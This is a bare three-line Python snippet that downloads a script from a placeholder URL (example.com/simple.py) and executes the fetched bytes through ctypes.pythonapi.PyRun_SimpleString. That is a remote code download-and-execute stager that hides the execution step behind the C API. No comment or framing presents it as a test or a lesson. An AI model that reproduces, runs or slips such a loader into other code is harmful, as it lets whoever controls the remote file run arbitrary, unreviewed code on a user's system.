import ctypes
import urllib.request

ctypes.pythonapi.PyRun_SimpleString(urllib.request.urlopen("https://example.com/simple.py").read())
